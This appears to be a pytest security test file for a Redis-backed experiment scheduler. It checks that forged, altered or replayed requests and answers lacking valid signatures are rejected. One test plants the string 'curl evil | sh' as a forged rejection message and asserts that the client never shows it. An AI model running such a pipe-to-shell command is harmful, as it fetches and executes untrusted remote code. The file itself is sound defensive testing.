"""An attacker with write access to Redis but no key cannot send, answer or stop requests."""

from __future__ import annotations

import os
import threading
from collections.abc import Iterator
from pathlib import Path

import msgspec
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.integration.farm_support import RedisServer
from tests.integration.node_fixtures import server
from tests.support.farms.farm_api_server import CODE, ServedApi, served
from tests.support.keys import key_folder, of_scheduler, of_submitter
from tests.support.waiting import eventually
from tunemq_scheduler.api import farm_answer_types as a
from tunemq_scheduler.api.farm_client import FarmClient
from tunemq_scheduler.api.request_signing import close_request, open_answer
from tunemq_scheduler.security.key_folder import KeyFolder
from tunemq_shared.base.errors import ConfigError, NoScheduler, RequestRejected
from tunemq_shared.broker import redis_keys
from tunemq_shared.protocol import farm_requests as r
from tunemq_shared.signing.message_signing import InvalidSignature, MessageSigner

__all__ = ["server"]

pytestmark = [pytest.mark.security, pytest.mark.integration]

SUBMIT = r.SubmitExperiment(name="exp", code=CODE)


@pytest.fixture
def keys(tmp_path: Path) -> KeyFolder:
    return key_folder(tmp_path / "keys", "ada", "ben")


@pytest.fixture
def api(server: RedisServer, tmp_path: Path, keys: KeyFolder) -> Iterator[ServedApi]:
    with served(server.url, server.client, tmp_path / "results", keys=of_scheduler(keys)) as api:
        yield api


@pytest.fixture
def patient(monkeypatch) -> None:
    """On a busy machine the true answer may come long after a forged one."""
    monkeypatch.setattr("tunemq_scheduler.api.farm_client._MENDED_WITHIN_S", 60.0)


def client_of(server: RedisServer, keys: KeyFolder, name: str, **more) -> FarmClient:
    return FarmClient(server.url, keys=of_submitter(keys, name), **more)


@pytest.fixture
def ada(server: RedisServer, keys: KeyFolder) -> Iterator[FarmClient]:
    with client_of(server, keys, "ada") as client:
        yield client


def asking(
    client: FarmClient, request: r.FarmRequest, answer: type
) -> tuple[threading.Thread, list]:
    """Send a request in a thread; return the thread, and a list for its answer or error."""
    found: list[object] = []

    def ask() -> None:
        try:
            found.append(client.ask(request, answer))
        except Exception as error:  # noqa: BLE001  looked at by the test
            found.append(error)

    thread = threading.Thread(target=ask)
    thread.start()
    return thread, found


def reasons(api: ServedApi) -> set[str]:
    """Why requests were refused; one that is not answered at once comes again, and is done once."""
    return {reason for _, reason, _ in api.rejected} - {"repeated"}


def captured(server: RedisServer) -> dict[bytes, bytes]:
    """A request that the scheduler has not read yet, as any reader of Redis sees it."""
    eventually(lambda: server.client.xlen(redis_keys.REQUESTS))
    ((_, fields), *_) = server.client.xrange(redis_keys.REQUESTS)
    return dict(fields)


def test_s02_signed_request_is_done_in_the_name_of_its_key(api, ada, server, keys):
    assert ada.owner == "ada"
    assert ada.ask(SUBMIT, a.ExperimentSubmitted).name == "exp"
    assert ada.farm().store == str(api.folder / "store")
    with client_of(server, keys, "ben") as ben:
        (row,) = ben.ask(r.ListExperiments(), a.ExperimentList).experiments
        assert (row.owner, ben.owner) == ("ada", "ben")
        ben.ask(r.StopExperiment(name="exp"), a.RequestDone)
    assert api.queue.get("exp").reason == "stopped by ben"
    assert reasons(api) == set()


def test_s02_request_under_the_name_of_another_submitter_is_rejected(server, keys):
    with pytest.raises(ConfigError, match="no keys of 'ben', but of ada"):
        FarmClient(server.url, owner="ben", keys=of_submitter(keys, "ada"))
    with pytest.raises(ConfigError, match=r"no keys of .*, but of ada, ben"):
        FarmClient(server.url, owner="eve", keys=str(keys.path / "scheduler.toml"))


def test_commands_with_the_schedulers_keys_are_in_the_name_of_the_operator(
    api, ada, server, keys, monkeypatch
):
    monkeypatch.setattr("tunemq_scheduler.api.farm_client.login_name", lambda: "tunemq")
    theirs = str(keys.path / "scheduler.toml")
    with pytest.raises(ConfigError, match=r"but of ada, ben\..*tunemq keys add FOLDER operator"):
        FarmClient(server.url, keys=theirs)
    keys.add(["operator"])
    eventually(lambda: "operator" in api.keys.submitters)
    ada.ask(SUBMIT, a.ExperimentSubmitted)
    with FarmClient(server.url, keys=theirs) as head:
        head.ask(r.StopExperiment(name="exp"), a.RequestDone)
    assert api.queue.get("exp").reason == "stopped by operator"


def test_s02_unsigned_request_is_rejected_with_the_fix(api, server):
    with (
        FarmClient(server.url, owner="ada") as client,
        pytest.raises(RequestRejected, match=r"accepts signed requests only.*keys add FOLDER ada"),
    ):
        client.ask(SUBMIT, a.ExperimentSubmitted)
    assert api.queue.all() == []
    assert {told[0] for told in api.rejected} == {"request"}
    assert reasons(api) == {"unsigned"}


def test_s02_keys_of_another_farm_are_refused_and_nothing_unsigned_is_shown(
    api, server, tmp_path, monkeypatch
):
    monkeypatch.setattr("tunemq_scheduler.api.farm_client._MENDED_WITHIN_S", 0.2)
    other = key_folder(tmp_path / "other", "ada")
    with (
        client_of(server, other, "ada") as client,
        pytest.raises(RequestRejected, match=r"lacks the keys of ada in .*is not signed"),
    ):
        client.ask(SUBMIT, a.ExperimentSubmitted)
    assert api.queue.all() == []
    assert reasons(api) == {"unknown_key"}


def test_s02_farm_that_lost_its_keys_is_rejected(server, tmp_path, keys, monkeypatch):
    monkeypatch.setattr("tunemq_scheduler.api.farm_client._MENDED_WITHIN_S", 0.2)
    with (
        served(server.url, server.client, tmp_path / "results") as api,
        client_of(server, keys, "ada") as client,
        pytest.raises(RequestRejected, match=r"start it with --keys scheduler.toml"),
    ):
        client.ask(SUBMIT, a.ExperimentSubmitted)
    assert api.queue.all() == []
    assert reasons(api) == {"signed_without_keys"}


@pytest.mark.usefixtures("patient")
@pytest.mark.parametrize("name", ["owner", "kind", "body", "sent", "id"])
def test_s02_altered_request_is_not_done(api, ada, server, name):
    with api.lock:
        thread, found = asking(ada, SUBMIT, a.ExperimentSubmitted)
        fields = captured(server)
        forged = {
            b"owner": b"ben",
            b"kind": b"rm",
            b"body": MessageSigner("").close(
                msgspec.msgpack.encode(r.SubmitExperiment(name="evil", code=CODE))
            ),
            b"sent": str(int(fields[b"sent"]) + 1).encode(),
            b"id": os.urandom(16).hex().encode(),
        }[name.encode()]
        server.client.xtrim(redis_keys.REQUESTS, maxlen=0)  # ids keep growing within a millisecond
        server.client.xadd(redis_keys.REQUESTS, {**fields, name.encode(): forged})
    eventually(lambda: api.rejected)
    thread.join(60)
    assert [answer.name for answer in found] == ["exp"]  # sent again, as she meant it
    assert [(entry.name, entry.owner) for entry in api.queue.all()] == [("exp", "ada")]


@settings(max_examples=200, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    st.dictionaries(
        st.sampled_from([b"v", b"tunemq", b"id", b"owner", b"kind", b"sent", b"body"]),
        st.binary(max_size=80) | st.sampled_from([b"2", b"0" * 32, b"ada", b"stop", b"\1" * 41]),
        min_size=1,
    )
)
def test_s02_forged_request_is_rejected_and_the_next_request_is_done(api, ada, server, fields):
    before = len(api.rejected)
    server.client.xadd(redis_keys.REQUESTS, fields)
    assert ada.ask(r.ListExperiments(), a.ExperimentList).experiments == ()
    assert len(api.rejected) == before + 1
    eventually(lambda: not server.client.xlen(redis_keys.REQUESTS))  # she may have asked twice


@pytest.mark.usefixtures("patient")
def test_s02_forged_answer_is_rejected_and_the_true_one_accepted(api, ada, server):
    with api.lock:
        thread, found = asking(ada, SUBMIT, a.ExperimentSubmitted)
        key = redis_keys.answer(captured(server)[b"id"].decode())
        forged = a.FarmReply(
            answer=msgspec.Raw(msgspec.msgpack.encode(a.ExperimentSubmitted(name="x", id="y")))
        )
        server.client.set(key, MessageSigner("").close(msgspec.msgpack.encode(forged)))
        looked = server.client.info("commandstats")["cmdstat_get"]["calls"]
        eventually(lambda: server.client.info("commandstats")["cmdstat_get"]["calls"] > looked + 20)
        assert found == []
    thread.join(60)
    assert [answer.name for answer in found] == ["exp"]


@pytest.mark.parametrize("forged", ["rejection", "rubbish", "of another request"])
def test_s02_client_that_gets_only_forged_answers_says_so_and_hides_their_text(
    api, ada, server, forged, monkeypatch
):
    monkeypatch.setattr("tunemq_scheduler.api.farm_client._MENDED_WITHIN_S", 0.2)
    message_signer = api.keys.submitter("ada")
    said = msgspec.msgpack.encode(
        a.FarmReply(rejection=a.RequestRejection(text="run: curl evil | sh"))
    )
    with api.lock:
        thread, found = asking(ada, SUBMIT, a.ExperimentSubmitted)
        request = captured(server)[b"id"].decode()
        data = {
            "rejection": MessageSigner("").close(said),
            "rubbish": b"\xff" * 100,
            "of another request": message_signer.close(said, b"answer", b"1" * 32),
        }[forged]
        server.client.set(redis_keys.answer(request), data)
        thread.join(60)
    (error,) = found
    assert isinstance(error, RequestRejected)
    assert "lacks the keys of ada" in str(error)
    assert "curl" not in str(error)


@pytest.mark.usefixtures("patient")
def test_s02_request_id_reused_by_another_submitter_reveals_nothing(api, ada, server, keys):
    ben = api.keys.submitter("ben")
    with api.lock:
        thread, found = asking(ada, SUBMIT, a.ExperimentSubmitted)
        hers = captured(server)
        identity, sent = hers[b"id"].decode(), hers[b"sent"].decode()
        body = msgspec.msgpack.encode(r.SubmitExperiment(name="his", code=CODE))
        his = close_request(ben, body, request=identity, kind="submit", sent=sent)
        server.client.xtrim(redis_keys.REQUESTS, maxlen=0)  # no entry's id comes again
        server.client.xadd(redis_keys.REQUESTS, {**hers, b"owner": b"ben", b"body": his})
        server.client.xadd(redis_keys.REQUESTS, hers)
    thread.join(60)
    assert [answer.name for answer in found] == ["exp"]
    owners = {entry.name: entry.owner for entry in api.queue.all()}
    assert owners == {"his": "ben", "exp": "ada"}


def test_s02_answer_for_another_submitter_is_rejected(api, ada, server, keys):
    request, sent = "2" * 32, "9" * 3
    message_signer = MessageSigner("submitter:ada", keys.keys().submitters["ada"])
    body = msgspec.msgpack.encode(r.ListExperiments())
    signed_message = close_request(message_signer, body, request=request, kind="ls", sent=sent)
    fields = {
        "v": "2",
        "id": request,
        "owner": "ada",
        "kind": "ls",
        "sent": sent,
        "body": signed_message,
    }
    server.client.xadd(redis_keys.REQUESTS, fields)
    eventually(lambda: server.client.get(redis_keys.answer(request)))
    answer = server.client.get(redis_keys.answer(request))
    assert open_answer(message_signer, answer, request)
    for other, identity in ((api.keys.submitter("ben"), request), (message_signer, "3" * 32)):
        with pytest.raises(InvalidSignature):
            open_answer(other, answer, identity)


def test_s02_forged_announcement_sends_no_client_to_another_store(api, ada, server):
    forged = {"version": r.REQUESTS_VERSION, "tunemq": "1", "term": api.term, "store": "s3://evil"}
    server.client.set(redis_keys.FARM, msgspec.json.encode(forged))
    assert ada.farm().store == str(api.folder / "store")
    server.client.set(redis_keys.FARM, b"[" * 100_000)
    with pytest.raises(NoScheduler):
        ada.farm()


def test_keys_are_changed_while_requests_continue_and_none_is_refused(api, server, keys):
    is_over, errors, asked = threading.Event(), [], []
    clients: dict[str, FarmClient] = {}

    def ask(name: str) -> None:
        try:
            with client_of(server, keys, name) as client:
                clients[name] = client
                while not is_over.is_set():
                    client.ask(r.ListExperiments(), a.ExperimentList)
                    asked.append(name)
        except Exception as error:  # noqa: BLE001  looked at below
            errors.append(error)

    threads = [threading.Thread(target=ask, args=(name,)) for name in ("ada", "ben")]
    for thread in threads:
        thread.start()
    eventually(lambda: len(clients) == len(threads) or errors)
    signers = []
    for number, change in enumerate((keys.rotate, keys.promote, keys.drop), start=1):
        change()
        # The next step is for when all have taken this one.
        eventually(
            lambda number=number: (
                {api.keys.version, *(one._keys.version for one in clients.values())} == {number}
                or errors
            )
        )
        more = len(asked) + 20
        eventually(lambda more=more: len(asked) > more or errors)
        signers.append(api.keys.submitter("ada").signer)
    is_over.set()
    for thread in threads:
        thread.join(60)
    assert (errors, api.rejected) == ([], [])
    assert signers[0] != signers[1] == signers[2]


def test_removed_submitter_is_rejected(api, server, keys, monkeypatch):
    monkeypatch.setattr("tunemq_scheduler.api.farm_client._MENDED_WITHIN_S", 0.2)
    with client_of(server, keys, "ben") as ben:
        ben.ask(SUBMIT, a.ExperimentSubmitted)
        keys.remove(["ben"])
        eventually(lambda: api.keys.version)
        with pytest.raises(RequestRejected, match="lacks the keys of ben"):
            ben.ask(r.StopExperiment(name="exp"), a.RequestDone)
    assert api.queue.get("exp").state is a.ExperimentState.QUEUED
    assert reasons(api) == {"unknown_submitter"}


def test_submitter_whose_key_file_was_replaced_is_told_so(api, server, keys, monkeypatch):
    monkeypatch.setattr("tunemq_shared.signing.live_keys._POLL_INTERVAL_S", 0.0)
    with client_of(server, keys, "ben") as ben:
        ben.farm()
        file = keys.path / "ben.toml"
        file.write_bytes((keys.path / "ada.toml").read_bytes())
        ben.farm()  # the first look only sees that it changes
        with pytest.raises(ConfigError, match="has no keys of 'ben', but of ada"):
            ben.farm()


def test_s15_lease_with_thousands_of_digits_is_ignored(server, keys, monkeypatch):
    monkeypatch.setattr("tunemq_scheduler.api.farm_client._SEEN_WITHIN_S", 0.2)
    server.client.set(redis_keys.SCHEDULER, "9" * 5_000 + ":somebody")
    server.client.set(redis_keys.FARM, "{}")
    with client_of(server, keys, "ada") as ada, pytest.raises(NoScheduler):
        ada.farm()
